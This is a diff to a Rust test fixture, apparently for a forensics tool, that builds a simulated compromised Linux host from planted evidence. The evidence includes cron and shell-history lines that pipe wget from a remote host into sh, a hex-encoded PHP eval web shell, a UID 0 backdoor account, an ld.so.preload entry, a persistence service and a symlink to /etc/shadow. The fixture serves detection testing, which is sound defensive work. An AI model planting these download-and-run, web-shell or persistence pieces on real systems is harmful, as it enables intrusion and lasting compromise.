@@ -203,3 +203,63 @@ pub fn md5_hex(data: &[u8]) -> String {
 }
 
 pub const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n";
+
+pub const ATTACKER: &str = "203.0.113.66";
+
+/// The planted compromise of the end-to-end test (also used by the evidence crate's tests).
+pub fn compromised_root() -> tempfile::TempDir {
+    let mut auth = Vec::new();
+    for i in 0..40 {
+        auth.push(format!("Nov 20 03:{:02}:{:02} web01 sshd[{}]: Failed password for {} from {ATTACKER} port {} ssh2", i / 6, (i % 6) * 10, 2000 + i, if i % 2 == 0 { "root" } else { "admin" }, 50000 + i));
+    }
+    auth.push(format!("Nov 20 03:07:12 web01 sshd[2100]: Accepted password for root from {ATTACKER} port 51000 ssh2"));
+    auth.push("Nov 20 03:09:40 web01useradd[2200]: junk line without a proper tag".into());
+    auth.push("Nov 20 03:09:41 web01 useradd[2201]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0".into());
+    auth.push("Nov 20 09:00:00 web01 sshd[3000]: Accepted publickey for deploy from 198.51.100.10 port 40000 ssh2: ED25519 SHA256:xyz".into());
+    let mut log = auth.join("\n").into_bytes();
+    log.extend_from_slice(b"\n\x00\x00\x01\x02binary junk\xff\xfe in the middle\n");
+    let webshell = unhex("3c3f70687020406576616c28245f504f53545b2778275d293b203f3e");
+    build(vec![
+        file(
+            "/etc/passwd",
+            &format!(
+                "{PASSWD}sysadm:x:0:0::/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n"
+            ),
+        ),
+        file("/etc/hostname", "web01\n"),
+        file(
+            "/etc/cron.d/0anacron-sync",
+            "*/5 * * * * root wget -q -O- http://198.51.100.23/ldr.sh | sh\n",
+        ),
+        file(
+            "/etc/systemd/system/system-update.service",
+            "[Unit]\nDescription=System update\n[Service]\nExecStart=/tmp/.font-unix/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
+        ),
+        link(
+            "/etc/systemd/system/multi-user.target.wants/system-update.service",
+            "/etc/systemd/system/system-update.service",
+        ),
+        file(
+            "/etc/ld.so.preload",
+            "/usr/lib/x86_64-linux-gnu/libsystem.so\n",
+        ),
+        file(
+            "/root/.ssh/authorized_keys",
+            "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2 mdrfckr\n",
+        ),
+        file(
+            "/var/www/html/wp-content/uploads/2026/11/cache.php",
+            &webshell,
+        ),
+        bytes("/var/log/auth.log", log),
+        file(
+            "/root/.bash_history",
+            "uname -a\ncd /tmp\nwget http://198.51.100.23/x.sh -O - | sh\nhistory -c\n",
+        ),
+        // Hostile bits the run must survive: a symlink out of the root, a loop, a non-UTF-8 name.
+        link("/var/log/evil", "../../../../../../etc/shadow"),
+        link("/home/loop/a", "/home/loop/b"),
+        link("/home/loop/b", "/home/loop/a"),
+        bytes("/tmp/\u{1b}[31mred", b"x".to_vec()),
+    ])
+}
